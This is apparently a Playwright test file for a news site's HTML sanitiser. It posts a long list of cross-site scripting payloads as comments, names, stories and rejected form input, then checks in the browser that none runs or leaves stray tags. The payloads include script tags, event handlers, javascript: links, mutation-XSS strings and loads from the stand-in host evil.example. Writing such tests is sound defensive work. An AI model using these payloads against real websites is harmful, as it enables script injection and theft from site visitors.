"""Strings that attack: in comments, in names, in stories and in a form that comes back.

Each is saved as the site saves it and then loaded in Chromium. The watch over every page
fails a test for a dialog, an error, a violation of the policy or a request to elsewhere.
"""

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from articles.models import Article, Section
from comments.discussion import DiscussionSettings
from comments.forms import CommentForm, CommentTextForm
from comments.models import Comment
from newsite.markup import (
    COMMENT_ATTRIBUTES,
    COMMENT_SCHEMES,
    COMMENT_TAGS,
    STORY_ATTRIBUTES,
    STORY_SCHEMES,
    STORY_TAGS,
)
from tests.browser.reply_form import an_hour_passes, fill_in, post_unchecked
from tests.factories import make_article, make_editor, make_section

COLLECTED = Path(__file__).parents[3] / "shared/data/attacks"
PER_PAGE = 50

OURS = [
    "<script>window.__pwned = 1; alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x00>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif" alt="">',
    '<img src="/media/../admin/logout/" srcset="https://evil.example/2x 2x">',
    '<img src="//evil.example/media/x.png">',
    '<image href="https://evil.example/i.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form></mtext></math>',
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc='<script>parent.__pwned = 1</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=https://evil.example/o.swf></object><embed src=https://evil.example/e>",
    "<video poster=https://evil.example/p><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    '<link rel=stylesheet href=https://evil.example/s.css><link rel=prefetch href=//evil.example/>',
    "<style>@import 'https://evil.example/i.css'; body { background: url(//evil.example/b) }</style>",
    '<p style="background:url(https://evil.example/b)">styled</p>',
    '<p class="comment-reply" id="commentform" data-comment="1" onclick="alert(1)">an id</p>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<body onload=alert(1) background="https://evil.example/bg.gif">',
    '<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>',
    '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
    "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href=" &#14; javascript:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<a href="vbscript:x" target="_blank" rel="opener" ping="https://evil.example/ping">click</a>',
    "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) <javascript:alert(1)>",
    '[click](https://example.com/" onmouseover="alert(1))',
    "![x](https://evil.example/i.png) ![x](javascript:alert(1))",
    '[a]: javascript:alert(1) "x"\n\n[a]',
    "https://example.com/\"onmouseover=alert(1)// http://example.com/<script>alert(1)</script>",
    "www.example.com/'onfocus='alert(1)'autofocus='",
    "`<img src=x onerror=alert(1)>`\n\n    <script>alert(1)</script>",
    "```\"><script>alert(1)</script>\nx\n```",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--\n</p></div></li></ol></article></main><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</textarea></title></style></script><script>alert(1)</script>",
    "</div></article></li></ol></section></main></body></html><script>alert(1)</script>",
    "'\"><img src=x onerror=alert(1)>{{ 7 * 7 }}{% load static %}${alert(1)}",
    "\u202egnp.tpircs<script>alert(1)</script>",
    "<a href='https://example.com/'><a href='https://example.com/2'>" * 20 + "deep",
    "<blockquote>" * 200 + "<script>alert(1)</script>",
    "> " * 200 + "<img src=x onerror=alert(1)>",
]  # fmt: skip

# What in these elements is not on the allow-list, attribute by attribute.
STRAYS = """
(roots, allowed) => roots.flatMap((root) => [...root.querySelectorAll("*")].flatMap((element) => {
  const tag = element.localName;
  const strays = [];
  if (!allowed.tags.includes(tag) || element.namespaceURI !== document.documentElement.namespaceURI)
    strays.push(`<${tag}>`);
  for (const attribute of element.attributes)
    if (!(allowed.attributes[tag] ?? []).includes(attribute.name))
      strays.push(`<${tag} ${attribute.name}="${attribute.value}">`);
  // A relative address leads into the site itself, and a broken one nowhere.
  const href = element.getAttribute("href");
  if (href !== null && URL.canParse(href, document.baseURI)) {
    const scheme = new URL(href, document.baseURI).protocol.slice(0, -1);
    if (!allowed.schemes.includes(scheme)) strays.push(`<${tag} href="${href}">`);
  }
  return strays;
}))
"""


def allow_list(tags: set, attributes: dict[str, set], schemes: set) -> dict:
    """Write an allow-list of newsite/markup.py as the script takes it."""
    names = {tag: sorted(names) for tag, names in attributes.items()}
    names["a"].append("rel")
    return {"tags": sorted(tags), "attributes": names, "schemes": sorted(schemes)}


IN_COMMENTS = allow_list(COMMENT_TAGS, COMMENT_ATTRIBUTES, COMMENT_SCHEMES)
IN_STORIES = allow_list(STORY_TAGS, STORY_ATTRIBUTES, STORY_SCHEMES)
IN_NAMES = {"tags": ["a", "bdi"], "attributes": {"a": ["href", "rel"]}, "schemes": ["http", "https"]}


@pytest.fixture(params=["ours", "collected"], scope="module")
def payloads(request) -> list[str]:
    if request.param == "ours":
        return OURS
    return collected() or pytest.skip("the collected attack strings are not here")


def collected() -> list[str]:
    """Return the attack strings of others, none where they are not at hand."""
    files = sorted(COLLECTED.glob("*.jsonl"))
    lines = [line for file in files for line in file.read_text().splitlines() if line.strip()]
    return list(dict.fromkeys(json.loads(line)["payload"] for line in lines))


def post_as_comment(article: Article, payload: str) -> bool:
    """Post it through the form, and as a name and website where those take it; then approve it."""
    wanted = {"body": payload, "name": payload[:100], "email": "a@example.com", "website": payload}
    settings = DiscussionSettings.load()
    form = CommentForm(wanted, article=article, settings=settings)
    for field in {"name", "website"} & set(form.errors):
        wanted[field] = "" if field == "website" else "Mallory"
    form = CommentForm(wanted, article=article, settings=settings)
    if not form.is_valid():
        assert set(form.errors) == {"body"}
        return False
    form.instance.status = Comment.Status.APPROVED
    form.save()
    return True


def save_as_stories(payloads: list[str]) -> Iterator[Article]:
    """Save each as a story, and yield stories that show what was saved, many in each."""
    section = Section.objects.get(slug="attacks")
    for start in range(0, len(payloads), PER_PAGE):
        some = payloads[start : start + PER_PAGE]
        saved = [make_article(section=section, status="draft", body=payload).body_html for payload in some]
        shown = make_article(section=section, title=some[0][:200], standfirst=some[-1][:400])
        # Saved as one text they would reach into each other, and be cleaned twice.
        shown.body_html = "".join(saved)
        Article.objects.filter(pk=shown.pk).update(body_html=shown.body_html)
        yield shown


def assert_unharmed(page: Page) -> None:
    expect(page.locator(".site-footer")).to_be_visible()
    assert page.evaluate("'__pwned' in window") is False
    assert page.locator("body > *").evaluate_all("all => all.map(e => e.localName).join()").startswith("a,")
    assert page.locator(".comment-text").evaluate_all(STRAYS, IN_COMMENTS) == []
    assert page.locator(".story-body").evaluate_all(STRAYS, IN_STORIES) == []
    assert page.locator(".comment .comment-name").evaluate_all(STRAYS, IN_NAMES) == []


def test_no_attack_in_a_comment_does_anything(page, payloads):
    article = make_article()
    posted = sum(post_as_comment(article, payload) for payload in payloads)
    # The form refuses what is empty once it is cleaned, and little else.
    assert posted > 0.8 * len(payloads)
    assert posted == Comment.objects.approved().count()

    loaded = 0
    for number in range(1, -(-posted // PER_PAGE) + 1):
        page.goto(f"{article.get_absolute_url()}?page={number}", wait_until="load")
        assert_unharmed(page)
        loaded += page.locator(".comment-text").count()
    assert loaded == posted


def test_no_attack_in_a_story_does_anything(page, payloads):
    make_section(name="<b>Attacks</b>", slug="attacks", description=OURS[0])
    loaded = 0
    for article in save_as_stories(payloads):
        page.goto(article.get_absolute_url(), wait_until="load")
        assert_unharmed(page)
        loaded += min(PER_PAGE, len(payloads) - loaded)
    assert loaded == len(payloads)
    assert Article.objects.filter(status="draft").count() == loaded

    page.goto("/section/attacks/", wait_until="load")
    assert_unharmed(page)
    expect(page.get_by_role("heading", level=1)).to_have_text("<b>Attacks</b>")


def test_no_attack_comes_back_alive_in_a_form_with_errors(page, watch):
    article = make_article()
    page.goto(article.get_absolute_url())
    watch.expect_status(422)
    for payload in OURS:
        page.locator("#commentform").evaluate(
            """(form, payload) => {
              for (const name of ["body", "name", "email", "website"]) form.elements[name].value = payload;
            }""",
            payload,
        )
        assert post_unchecked(page).status == 422
        assert_unharmed(page)
        kept = page.get_by_label("Comment *").input_value()
        assert kept == payload.replace("\x00", "\ufffd")
    assert not Comment.objects.exists()


def test_attacks_posted_in_the_browser_are_held_and_do_nothing_in_the_queue(page, watch):
    article = make_article()
    # The form refuses what is empty once it is cleaned; see above.
    sample = [payload for payload in OURS if CommentTextForm({"body": payload}).is_valid()][::4]
    for payload in sample:
        page.goto(article.get_absolute_url())
        fill_in(page, body=payload, name=payload[:100], email="mallory@mailbox.example")
        assert post_unchecked(page).status == 200
        an_hour_passes()
        expect(page).to_have_url(re.compile("/comments/yours/"))
        assert_unharmed(page)
    assert Comment.objects.held().count() == len(sample)

    editor = watch.new_editor(make_editor())
    editor.goto("/admin/comments/comment/", wait_until="load")
    texts = editor.locator(".queue-text > .queue-body")
    expect(texts).to_have_count(len(sample))
    assert texts.evaluate_all(STRAYS, IN_COMMENTS) == []
    assert editor.evaluate("'__pwned' in window") is False
